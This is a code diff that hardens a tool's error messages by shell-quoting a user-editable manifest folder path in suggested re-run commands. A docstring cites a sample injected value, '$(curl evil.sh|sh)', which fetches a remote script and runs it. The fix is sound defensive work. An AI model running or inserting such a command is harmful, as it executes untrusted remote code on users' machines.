@@ -9,6 +9,7 @@ columns it needs, values of the right type); each problem is one clear error.
 from __future__ import annotations
 
 import json
+import shlex
 from collections.abc import Mapping, Sequence
 from dataclasses import dataclass
 from pathlib import Path
@@ -38,8 +39,19 @@ from metalogic.engine.results import Rows
 
 
 def _rerun(folder: Path, manifest: Mapping[str, Any] | None = None) -> str:
-    facts = (manifest or {}).get("facts_dir") or "FACTS"
-    return f"run the check again: metalogic check {facts} --out {folder} (or 'metalogic run CONFIG')"
+    return (
+        f"run the check again: metalogic check {_facts_arg(manifest)} --out {shlex.quote(str(folder))} "
+        "(or 'metalogic run CONFIG')"
+    )
+
+
+def _facts_arg(manifest: Mapping[str, Any] | None) -> str:
+    """The manifest's facts folder as a shell word a user can paste: the manifest is a file anyone
+    can edit, and a fix line that pasted '$(curl evil.sh|sh)' as it is would run it."""
+    facts = (manifest or {}).get("facts_dir")
+    if not isinstance(facts, str) or not facts or "\0" in facts or len(facts) > 4096:
+        return "FACTS"
+    return shlex.quote(facts)
 
 
 def read_manifest(path: Path) -> dict[str, Any] | None:
@@ -62,7 +74,7 @@ def read_manifest(path: Path) -> dict[str, Any] | None:
     if not isinstance(data, dict):
         return None
     if data.get("kind") != KIND:
-        if "engine" in data and "facts_dir" in data and "agents" in data:  # check's manifest, format 1
+        if "kind" not in data and "engine" in data and "facts_dir" in data and "agents" in data:  # format 1
             raise MetalogicError.single(
                 "this check output was written by an older metalogic, whose manifest does not name the "
                 "tables report and compare read",
@@ -385,7 +397,7 @@ def _mismatch(folder: Path, manifest: Mapping[str, Any], key: str, had: Any, wan
         where=str(folder / MANIFEST),
         expected="the options the check ran with, or none: report and compare read a check output as it is",
         fix=f"leave {flag} out, or check again with it: metalogic check "
-        f"{manifest.get('facts_dir') or 'FACTS'} ... --out {folder}",
+        f"{_facts_arg(manifest)} ... --out {shlex.quote(str(folder))}",
     )
 
 
